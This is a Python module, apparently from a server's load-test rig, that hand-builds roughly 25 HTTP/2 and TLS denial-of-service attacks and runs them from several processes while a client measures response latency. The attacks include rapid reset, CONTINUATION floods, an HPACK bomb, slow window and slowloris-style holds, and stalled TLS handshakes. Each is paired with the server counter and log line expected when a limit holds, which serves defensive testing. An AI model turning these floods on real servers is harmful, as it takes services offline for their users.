"""Attacks on HTTP/2 and on TLS, by frames and bytes written by hand, and a client that asks beside them for small answers.

Two kinds of attackers: some say a flood and wait for its end, again and again, at most so many connections a second; others hold so many
connections, say a little more from time to time, and open another for each that is closed. Each is a process on the load's core. Who asks
goes first there (rig.busy), so that it measures the server."""

import collections
import multiprocessing
import os
import select
import socket
import ssl
import time

from . import busy
from .http2_frames import PREFACE, frame

DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, GOAWAY, UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS, WHOLE = 1, 1, 4, 5
INITIAL_WINDOW_SIZE = 4     # of SETTINGS
PATIENCE = 1        # seconds that an attacker waits for its end
RECEIVED = 4096     # bytes that the kernel keeps for an attacker
GIVES_UP = 5        # seconds that who asks waits for an answer
LARGE = "/large"    # a path with a file of some MiB; PLAIN: with a small answer; TAKEN: whose body is waited for
PLAIN, TAKEN = "/plain", "/taken"


def block(path, method=b"GET", scheme=b"http"):
    """A request's header block: the static table's entries, and literals that are not kept (RFC 7541, 6)."""
    plain = {b"GET": b"\x82", b"POST": b"\x83", b"http": b"\x86", b"https": b"\x87"}
    path = path.encode()
    return plain[method] + plain[scheme] + b"\x04" + bytes((len(path),)) + path + b"\x01\x09localhost"


def get(stream, path=PLAIN):
    return frame(HEADERS, WHOLE, stream, block(path))


def post(stream):
    """A request whose body does not come."""
    return frame(HEADERS, END_HEADERS, stream, block(TAKEN, b"POST"))


def streams(count, said):
    return b"".join(said(2 * n + 1) for n in range(count))


def bomb(count):
    """A field of 4000 bytes, and so many bytes that each repeat it (CVE-2026-49975)."""
    return block(PLAIN) + b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000 + b"\xbe" * count


def narrow(window):
    """SETTINGS with a window for responses."""
    return frame(SETTINGS, 0, 0, INITIAL_WINDOW_SIZE.to_bytes(2, "big") + window.to_bytes(4, "big"))


def hello():
    """A ClientHello."""
    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        ssl._create_unverified_context().wrap_bio(into, out, server_hostname="localhost").do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


# `said`: the bytes of a connection. `counter`: the family, its label and the value that says that the limit held. `log`: words of the error log's line.
# `again`: what a held connection says then, of how often it has said something; none: it floods. `every_s`: seconds between that. `leaves`: at the first
# answer. `needs_tls`: said to the address with TLS.
Attack = collections.namedtuple("Attack", "said counter log again every_s leaves needs_tls", defaults=(None, 0.1, False, False))
GOAWAYS, RESETS, HANDSHAKES = ("freewheel_http2_goaways_total", "reason"), ("freewheel_http2_resets_total", "by"), ("freewheel_tls_handshakes_total", "outcome")
TIMED_OUT = "client timed out"


def _flood(said, reason, log):
    return Attack(PREFACE + frame(SETTINGS, 0, 0) + said, (*GOAWAYS, reason), log)


def _held(said, counter, again=lambda step: b"", every_s=0.1):
    return Attack(PREFACE + said, counter, TIMED_OUT, again, every_s)


def _shaking(said, outcome, again=lambda step: b"", every_s=0.1):
    return Attack(said, (*HANDSHAKES, outcome), TIMED_OUT, again, every_s, needs_tls=True)


def attacks():
    """All of them by name."""
    resets, glitches = "too many streams reset", "too many frames without use"
    begun, unread = frame(HEADERS, END_STREAM, 1), "asked for control frames without reading them"
    too_large, first = "too large header block", hello()
    return {
        "rapid reset": _flood(streams(2000, lambda s: get(s) + frame(RESET, 0, s, b"\0\0\0\x08")), "TooManyResets", resets),
        "reset by faults": _flood(streams(2000, lambda s: post(s) + frame(UPDATE, 0, s, bytes(4))), "TooManyResets", resets),
        "refused streams": _flood(streams(2000, post), "TooManyRefused", "too many refused streams"),
        "CONTINUATION, empty": _flood(begun + frame(CONTINUATION, 0, 1) * 10_000, "TooManyContinuations", "too many CONTINUATION frames"),
        "CONTINUATION, bytes": _flood(begun + frame(CONTINUATION, 0, 1, bytes(8192)) * 100, "BlockTooLarge", too_large),
        "HPACK bomb": _flood(frame(HEADERS, WHOLE, 1, bomb(10_000)), "BlockTooLarge", too_large),
        "large field": _flood(frame(HEADERS, WHOLE, 1, block(PLAIN) + b"\0\x01x\x7f\xb1\x6c" + b"y" * 14_000), "FieldTooLarge", "too large header field"),
        "SETTINGS": _flood(frame(SETTINGS, 0, 0) * 50_000, "TooManyGlitches", glitches),
        "PING": _flood(frame(PING, 0, 0, b"abcdefgh") * 100_000, "TooManyAnswers", unread),
        "empty DATA": _flood(post(1) + frame(DATA, 0, 1) * 50_000, "TooManyGlitches", glitches),
        "empty HEADERS": _flood(streams(2000, lambda s: frame(HEADERS, WHOLE, s)), "TooManyMalformed", "too many malformed requests"),
        "PRIORITY": _flood(frame(PRIORITY, 0, 5, b"\0\0\0\0\1") * 50_000, "TooManyGlitches", glitches),
        "WINDOW_UPDATE": _flood(frame(UPDATE, 0, 0, b"\0\0\0\1") * 50_000, "TooManyUpdates", "too many WINDOW_UPDATE frames"),
        "unknown frames": _flood(frame(0x77, 0, 0, b"anything") * 50_000, "TooManyGlitches", glitches),
        "SETTINGS, acknowledged": _flood(frame(SETTINGS, ACK, 0) * 1_000_000, "TooManyGlitches", glitches),
        "windows of a byte": _held(narrow(1) + streams(100, lambda s: get(s, LARGE)), (*RESETS, "timeout")),
        "windows of nothing, large heads": _held(narrow(0) + streams(100, lambda s: frame(HEADERS, WHOLE, s, bomb(6))), (*RESETS, "timeout")),
        "taken byte by byte": _held(narrow(1) + get(1, LARGE), None, lambda step: frame(UPDATE, 0, 1, b"\0\0\0\1"), 0.05),
        "a header block without end": _held(frame(SETTINGS, 0, 0) + frame(HEADERS, END_STREAM, 1, block(PLAIN)), (*GOAWAYS, "TimedOut")),
        "a frame byte by byte": _held(frame(SETTINGS, 0, 0), (*GOAWAYS, "TimedOut"), lambda step: get(1)[step:step + 1] if step < 8 else b""),
        "TLS, nothing said": _shaking(b"", "timed_out"),
        "TLS, ClientHello byte by byte": _shaking(b"", "timed_out", lambda step: first[step:step + 1], 0.02),
        "TLS, half a handshake": _shaking(first, "timed_out"),
        "TLS, handshakes left": Attack(first, (*HANDSHAKES, "closed"), "while SSL handshaking", leaves=True, needs_tls=True),
        "TLS, garbage": Attack(b"\x16\3\1\x40\0\1" + b"\xee" * 20_000, (*HANDSHAKES, "malformed"), "while SSL handshaking", needs_tls=True),
    }


class Attackers:
    """Processes inside of a `with` block that run one attack; behind it, `opened` and `ended` are the numbers of its connections, and of those
    that the server ended."""

    def __init__(self, core, address, attack, processes, per_second, held):
        run, number = (_flooding, per_second) if attack.again is None else (_holding, held)
        self.ends, self.told = multiprocessing.Event(), multiprocessing.SimpleQueue()
        args = (core, address, attack, number / processes, self.ends, self.told)
        self.processes = [multiprocessing.Process(target=run, args=args) for _ in range(processes)]
        self.opened = self.ended = 0

    def __enter__(self):
        for process in self.processes:
            process.start()
        return self

    def __exit__(self, *_):
        self.ends.set()
        for _ in self.processes:
            opened, ended = self.told.get()
            self.opened, self.ended = self.opened + opened, self.ended + ended
        for process in self.processes:
            process.join()


def _connect(address):
    connection = socket.socket()
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, RECEIVED)
    connection.settimeout(PATIENCE)
    connection.connect(address)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return connection


def _flooding(core, address, attack, per_second, ends, told):
    os.sched_setaffinity(0, {core})
    opened = ended = 0
    next_at = time.monotonic()
    while not ends.is_set():
        try:
            with _connect(address) as connection:
                opened += 1
                ended += _flood_once(connection, attack)
        except OSError:
            pass
        next_at = max(next_at + 1 / per_second, time.monotonic() - 1)
        time.sleep(max(0, next_at - time.monotonic()))
    told.put((opened, ended))


def _flood_once(connection, attack):
    """Whether the server has ended it."""
    try:
        connection.sendall(attack.said)
    except TimeoutError:
        pass
    except OSError:
        return True
    until = time.monotonic() + PATIENCE
    try:
        while time.monotonic() < until:
            if not connection.recv(65536):
                return True
            if attack.leaves:
                return False
    except TimeoutError:
        return False
    except OSError:
        return True
    return False


def _holding(core, address, attack, held, ends, told):
    os.sched_setaffinity(0, {core})
    opened = ended = step = 0
    poll, connections = select.poll(), {}
    next_at = time.monotonic()
    while not ends.is_set():
        while len(connections) < held:
            connection, at = _hold(address, attack.said), step
            connections[connection.fileno()] = connection, at
            poll.register(connection, select.POLLIN)
            opened += 1
        for file, (connection, at) in connections.items():
            _say(connection, attack.again(step - at))
        for file, _ in poll.poll(0):
            if _is_over(connections[file][0]):
                poll.unregister(file)
                connections.pop(file)[0].close()
                ended += 1
        step, next_at = step + 1, next_at + attack.every_s
        time.sleep(max(0, next_at - time.monotonic()))
    told.put((opened, ended))


def _hold(address, said):
    connection = _connect(address)
    connection.sendall(said)
    connection.setblocking(False)
    return connection


def _say(connection, more):
    try:
        if more:
            connection.send(more)
    except OSError:
        pass


def _is_over(connection):
    try:
        return not connection.recv(65536)
    except BlockingIOError:
        return False
    except OSError:
        return True


class Asking:
    """A client that asks for the small answer again and again on a kept connection, `pause` seconds after each answer, inside of a `with` block;
    behind it `waits` are the times in ms, sorted, and `lost` the requests without their answer. While one waits, those count that others would have asked
    meanwhile, each from its own moment."""

    def __init__(self, core, address, is_http2, pause):
        self.ends, self.told = multiprocessing.Event(), multiprocessing.SimpleQueue()
        self.process = multiprocessing.Process(target=_ask, args=(core, address, _Http2 if is_http2 else _Http1, pause, self.ends, self.told))
        self.waits, self.lost = [], 0

    def __enter__(self):
        self.process.start()
        return self

    def __exit__(self, *_):
        self.ends.set()
        self.waits, self.lost = self.told.get()
        self.waits.sort()
        self.process.join()


def _ask(core, address, client, pause, ends, told):
    os.sched_setaffinity(0, {core})
    busy.go_first()
    waits, lost, kept = [], 0, None
    while not ends.is_set():
        begun = time.perf_counter()
        try:
            kept = kept or client(address)
            kept.ask()
        except OSError:
            kept, lost = None, lost + 1
        waited = time.perf_counter() - begun
        waits += [1000 * (waited - n * pause) for n in range(int(waited / pause) + 1)]
        time.sleep(pause)
    told.put((waits, lost))


class _Http1:
    def __init__(self, address):
        self.connection = socket.create_connection(address, GIVES_UP)

    def ask(self):
        self.connection.sendall(busy.request(PLAIN))
        said = self.connection.recv(65536)
        if not said.startswith(b"HTTP/1.1 200"):
            raise OSError("not answered")


class Frames:
    """A client of HTTP/2 on a connection that asks for one answer after the other: the frames that come."""

    def __init__(self, connection):
        self.connection, self.stream, self.ahead = connection, 1, b""

    def take_answer(self):
        """To the end of the stream; the next one is then due."""
        while True:
            kind, flags, stream, _ = self.next_frame()
            if kind == SETTINGS and not flags & ACK:
                self.connection.sendall(frame(SETTINGS, ACK, 0))
            if kind in (RESET, GOAWAY):
                raise OSError("not answered")
            if kind in (HEADERS, DATA) and stream == self.stream and flags & END_STREAM:
                break
        self.stream += 2

    def next_frame(self):
        while len(self.ahead) < 9 or len(self.ahead) < 9 + int.from_bytes(self.ahead[:3], "big"):
            said = self.connection.recv(65536)
            if not said:
                raise OSError("closed")
            self.ahead += said
        end = 9 + int.from_bytes(self.ahead[:3], "big")
        head, payload, self.ahead = self.ahead[:9], self.ahead[9:end], self.ahead[end:]
        return head[3], head[4], int.from_bytes(head[5:], "big"), payload


class _Http2(Frames):
    """Over TLS."""

    def __init__(self, address):
        context = ssl._create_unverified_context()
        context.set_alpn_protocols(["h2"])
        super().__init__(context.wrap_socket(socket.create_connection(address, GIVES_UP), server_hostname="localhost"))
        self.connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(UPDATE, 0, 0, (2**31 - 65_536).to_bytes(4, "big")))

    def ask(self):
        self.connection.sendall(frame(HEADERS, WHOLE, self.stream, block(PLAIN, scheme=b"https")))
        self.take_answer()
